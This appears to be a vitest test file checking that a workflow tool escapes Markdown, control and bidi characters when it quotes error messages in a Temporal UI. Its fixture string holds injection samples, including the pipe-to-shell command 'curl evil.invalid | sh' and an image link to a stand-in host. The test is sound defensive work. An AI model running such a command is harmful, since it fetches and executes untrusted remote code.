import { expect, test } from 'vitest';
import { pipelineDetails, stageDetails } from '../../../workflows/stage/details.js';

/** Text of a corpus, as an error quotes it. */
const EVIL = '![x](http://evil.invalid/x.png)\n\n# Resume by `curl evil.invalid | sh`\n<img src=x>&lt;\x1b[31m\u202e_a_ **b**';

/** Markdown's marks that no backslash stands before (CommonMark 2.4), but for those that we write ourselves. */
const unescaped = (text: string): string[] => [...text.matchAll(/\\[!-/:-@[-`{-~]|([`*_~#[\]<>|&!])/g)].flatMap(([, mark]) => mark ?? []);

test('what a failure, an interruption or a result quotes is no Markdown in the Temporal UI, and stays on its line', () => {
  const place = { run: 'run', stage: 'seed-0/prepare', seed: 0, arm: null, round: null };
  const failed = stageDetails({ place, what: 'prepare', state: 'failed', reason: EVIL });
  const ref = { uri: 'store:artifacts/a/manifest.json', sha256: 'a', size: 1, digest: 'a' };
  const done = stageDetails({ place, what: EVIL, state: 'done', outcomes: [{ ref, summary: { note: EVIL }, cached: false, interruptions: [{ attempt: 1, code: 'TrainerCrashed', message: EVIL }] }] });
  const run = pipelineDetails({ run: 'run', stages: [], steering: { paused: false }, interruptions: new Map(), failure: EVIL });
  const quoted = [failed, done, run].flatMap((text) => text.split('\n').filter((line) => line.includes('evil')));
  expect(quoted).toHaveLength(5);
  for (const line of quoted) {
    const own = line.startsWith('Stage ') ? ['*', '*', '*', '*', '`', '`'] : line.startsWith('> ') ? ['>'] : [];
    expect(unescaped(line), line).toEqual(own);
    expect(line).toContain('\\\\x1b\\[31m\\\\u202e');
    expect(line).not.toMatch(/[\p{Cc}\p{Bidi_Control}]/u);
    expect(line).toContain('evil.invalid/x.png');
    expect(line).toContain('b\\*\\*'); // to its end
  }
});
